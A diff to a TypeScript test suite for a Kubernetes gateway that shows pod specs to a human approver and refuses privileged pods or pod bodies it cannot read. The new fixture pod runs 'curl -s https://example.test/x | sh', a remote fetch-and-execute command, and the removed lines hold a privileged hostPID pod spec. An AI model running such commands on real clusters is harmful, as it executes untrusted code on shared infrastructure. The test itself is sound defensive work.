@@ -16,18 +16,17 @@ import { startKubeTestGateway, type KubeTestGateway } from './testkit/kube-gatew
 
 const haveKubectl = hasCommand('kubectl');
 
-/** A pod that runs privileged with the host's PID namespace: what an approver must see. */
+/** A pod whose image and command an approver must see (a privileged one is refused: class 110). */
 const PRIVILEGED_YAML = `apiVersion: v1
 kind: Pod
 metadata:
   name: ssa
 spec:
-  hostPID: true
+  restartPolicy: Never
   containers:
   - name: c
     image: busybox
-    securityContext:
-      privileged: true
+    command: [sh, -c, 'curl -s https://example.test/x | sh']
 `;
 
 describe('reviewed bodies an approver could not be shown', { timeout: 60_000 }, () => {
@@ -94,8 +93,10 @@ describe('reviewed bodies an approver could not be shown', { timeout: 60_000 }, 
       await pending;
       const doc = JSON.parse(shown) as { spec: unknown };
       expect(doc.spec).toEqual({
-        hostPID: true,
-        containers: [{ name: 'c', image: 'busybox', securityContext: { privileged: true } }],
+        restartPolicy: 'Never',
+        containers: [
+          { name: 'c', image: 'busybox', command: ['sh', '-c', 'curl -s https://example.test/x | sh'] },
+        ],
       });
     },
   );
@@ -138,11 +139,16 @@ describe('reviewed bodies an approver could not be shown', { timeout: 60_000 }, 
     for (const [method, target, body, type] of cases) {
       const r = await send(method, target, body, type);
       expect(r.status, `${method} ${type}`).toBe(415);
-      expect((JSON.parse(r.body) as { message: string }).message).toMatch(/cannot be shown to the approver/);
+      expect((JSON.parse(r.body) as { message: string }).message).toMatch(
+        // A pod's body is read for what the pod may do before it is decided (class 110).
+        /cannot be shown to the approver|cannot read what the pod may do/,
+      );
     }
     expect(gw.approver.seen.length).toBe(asked);
     expect(posts()).toBe(before);
-    const refused = (await statementsOf('claude')).filter((st) => st.ruleId === 'kubernetes-unshown-body');
+    const refused = (await statementsOf('claude')).filter(
+      (st) => st.ruleId === 'kubernetes-unshown-body' || st.ruleId === 'kubernetes-unread-pod-spec',
+    );
     expect(refused.length).toBe(cases.length);
   });
 });
